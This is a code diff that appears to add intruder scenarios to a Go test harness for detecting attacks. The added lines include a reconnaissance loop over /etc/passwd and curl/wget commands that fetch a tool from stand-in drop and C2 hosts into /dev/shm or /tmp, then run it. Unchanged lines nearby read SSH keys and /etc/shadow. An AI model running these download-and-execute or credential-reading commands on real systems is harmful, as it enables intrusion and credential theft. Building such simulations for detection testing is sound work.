@@ -21,6 +21,12 @@ var others = []Shape{
 		Name: "container", About: "the service is in a container", Options: stage.Options{Container: true},
 		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/kworker"), "curl -s "+get("t")+" -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"),
 	},
+	{Name: "rotation", About: "eight deliveries, each under another name, half of them of another tool from other addresses and with another C2", Play: rotation},
+	{
+		Name: "discovery", About: "a loop of dozens of short commands looks around before the tool is fetched",
+		Play: simple(list(drop+" "+stage.C2), list("/tmp/.n"),
+			"for n in $(seq 12); do id; uname -a; ls / > /dev/null; ps > /dev/null; cat /etc/passwd > /dev/null; done; wget -q "+get("t")+" -O /tmp/.n; chmod +x /tmp/.n; /tmp/.n"),
+	},
 	{Name: "two-intruders", About: "two intruders in one service at the same time, with tools, names and addresses of their own", Play: twoIntruders},
 }
 
@@ -129,6 +135,23 @@ func lateral(ctx context.Context, s *stage.Stage) error {
 	}
 	i.Read("/root/.ssh/id_ed25519")
 	there.Read("/etc/shadow")
+	return nil
+}
+
+func rotation(ctx context.Context, s *stage.Stage) error {
+	i := s.Intruder(s.Web, stage.Attacker)
+	i.Called(drop, drop2, stage.C2, stage.OtherC2)
+	for n := range 8 {
+		server, tool := stage.Drop, "t"
+		if n >= 4 {
+			i.From, server, tool = stage.Attacker2, stage.Drop2, "u"
+		}
+		name := fmt.Sprintf("/dev/shm/databus0000000%dabc", n)
+		if err := i.Inject(ctx, fmt.Sprintf("curl -s http://%s/%s -o %s; chmod +x %s; %s", server, tool, name, name, name)); err != nil {
+			return err
+		}
+		i.Brought(name)
+	}
 	return nil
 }
 
